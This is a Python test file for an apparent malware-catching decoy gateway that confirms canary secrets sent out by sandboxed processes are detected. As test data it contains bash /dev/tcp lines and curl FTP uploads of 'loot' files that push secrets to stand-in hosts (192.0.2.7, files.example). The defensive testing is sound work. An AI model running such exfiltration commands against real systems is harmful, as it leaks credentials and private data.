"""Conversations between gateway and talker: relayed, searched, and heard out where the talker fails."""

from __future__ import annotations

import os
import signal
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from package_hunter.confine import UIDS
from package_hunter.decoy.gateway import Gateway
from tests.support.netpair import NetPair
from tests.support.played import CANARIES, ENV
from tests.support.service_harness import wait_for

Start = Callable[..., Gateway]
_ECHO = "exec 3<>/dev/tcp/192.0.2.7/7; sleep 0.6; echo '{say}' >&3; head -n 1 <&3"


def _talkers() -> list[int]:
    found = []
    for folder in Path("/proc").glob("[0-9]*"):
        try:
            if b"package_hunter.decoy.talks.process" in (folder / "cmdline").read_bytes():
                found.append(int(folder.name))
        except OSError:
            continue
    return found


def _mine(gateway: Gateway, before: list[int]) -> list[int]:
    return [pid for pid in _talkers() if pid not in before]


def test_a_conversation_is_played_by_a_confined_process_and_searched(pair: NetPair, gateway: Start) -> None:
    before, g = _talkers(), gateway()
    secret = CANARIES[0].value
    assert _mine(g, before) == []  # none before one is needed
    done = pair.run(_ECHO.format(say=secret), ENV)
    assert done.stdout.strip() == secret, (done, g._words())
    (pid,) = _mine(g, before)
    facts = dict(line.split(":\t", 1) for line in Path(f"/proc/{pid}/status").read_text().splitlines())
    assert facts["Uid"].split() == [str(UIDS["talker"])] * 4
    assert facts["Seccomp"] == "2" and facts["CapEff"].strip("0") == ""
    log = g.stop()
    assert [c.kind for c in log.connections] == ["echo"]
    assert log.connections[0].bytes_in == log.connections[0].bytes_out == len(secret) + 1
    assert CANARIES[0].id in {hit.canary for hit in log.hits}
    assert "gateway_errors" not in log.cut
    assert _mine(g, before) == []


def test_the_box_is_heard_out_where_the_talker_dies_and_a_second_one_is_started(
    pair: NetPair, gateway: Start, tmp_path: Path
) -> None:
    before, g = _talkers(), gateway()
    assert pair.run(_ECHO.format(say="one"), ENV).stdout == "one\n", g._words()
    said = tmp_path / "said"
    script = (
        f"exec 3<>/dev/tcp/192.0.2.8/7; sleep 0.6; echo x >&3; head -n 1 <&3 >{said}; "
        f"while test -e {said}; do sleep 0.1; done; echo {CANARIES[1].value} >&3"
    )
    with ThreadPoolExecutor() as pool:
        box = pool.submit(pair.run, script, ENV)
        wait_for(lambda: said.exists() and said.read_text() == "x\n")
        (pid,) = _mine(g, before)
        os.kill(pid, signal.SIGKILL)
        said.unlink()
        assert box.result().returncode == 0
    assert pair.run(_ECHO.format(say="two"), ENV).stdout == "two\n"
    (second,) = _mine(g, before)
    assert second != pid
    log = g.stop()
    assert log.cut["gateway_errors"] == 1
    assert CANARIES[1].id in {hit.canary for hit in log.hits}


def test_an_upload_is_the_conversations_own_whatever_it_begins_like(
    pair: NetPair, gateway: Start, tmp_path: Path
) -> None:
    g = gateway()
    begins = (b"GET / HTTP/1.1\r\n\r\n", b"POST /x HTTP/1.1\r\nHost: a.example\r\n\r\n", b"\x05\x01\x00")
    for number, (begin, canary) in enumerate(zip(begins, CANARIES, strict=False)):
        (tmp_path / f"loot{number}").write_bytes(begin + canary.value.encode() + b"\n")
        done = pair.run(f"curl -sS -T {tmp_path}/loot{number} ftp://files.example/in/", ENV)
        assert done.returncode == 0, (done.stderr, g._words())
    log = g.stop()
    assert sorted(c.kind for c in log.connections if c.protocol == "tcp") == ["ftp"] * 3 + ["ftp-data"] * 3
    assert not log.requests
    assert {hit.canary for hit in log.hits} >= {canary.id for canary in CANARIES[:3]}
